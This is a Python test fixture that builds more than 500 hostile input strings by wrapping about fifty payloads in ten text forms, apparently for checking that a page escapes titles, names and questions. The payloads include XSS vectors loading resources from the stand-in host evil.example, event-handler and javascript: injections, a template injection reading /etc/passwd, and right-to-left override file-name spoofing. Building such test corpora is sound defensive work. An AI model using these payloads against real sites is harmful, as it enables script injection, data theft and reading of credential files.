"""Hostile strings: what somebody may write into a title, a name, a file or a question to have a page do something."""

from __future__ import annotations

from itertools import product

_EVIL = "http://evil.example/"
_RUN = "window.hacked=1"

_PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={_EVIL}a.js></ScRiPt>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_EVIL}a.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<iframe src={_EVIL}></iframe>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src={_EVIL}a.swf>",
    f"<link rel=stylesheet href={_EVIL}a.css>",
    f"<style>@import '{_EVIL}a.css'; body{{background:url({_EVIL}b.png)}}</style>",
    f'<base href="{_EVIL}">',
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<form action={_EVIL}><button>x</button></form>",
    f"<a href=javascript:{_RUN}>x</a>",
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"` onmouseover=`{_RUN}` x=`",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"![x]({_EVIL}a.png)",
    f"[x](javascript:{_RUN})",
    f"[x]: {_EVIL}\n[x]",
    f"<{_EVIL}>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$\\includegraphics{{{_EVIL}k.png}}$",
    f"$\\text{{<img src=x onerror={_RUN}>}}$",
    f"$\\text{{<script>{_RUN}</script>}}$",
    f"\\(\\text{{</math><img src={_EVIL}m.png>}}\\)",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}}",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"\ue000\ue0010\ue003<b>{_RUN}</b>\ue001",
    "\u202egnp.exe \u2066hidden\u2069 \u200b\ufeff",
    "%3Cscript%3E" + _RUN + "%3C/script%3E",
    "&lt;script&gt;" + _RUN + "&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    "&#xE000;5&#xE003; &#xE002;7&#xE003; &#xE001; <b>" + _RUN,
    "[" + "9" * 5000 + "]",
    "```[1]x\n``` ```$x$ y\n```",
    "a" * 4000,
)
_FORMS = (
    "{}",
    "Zebra {} stripes",
    "{}: a study",
    "“{}”",
    "**{}**",
    "`{}`",
    "- {}",
    "> {}",
    "[1]{}[2]",
    "${}$",
)


def strings() -> list[str]:
    """Return more than 500 hostile strings. Where one works, `window.hacked` is set, or evil.example is asked."""
    return [form.replace("{}", payload) for form, payload in product(_FORMS, _PAYLOADS)]
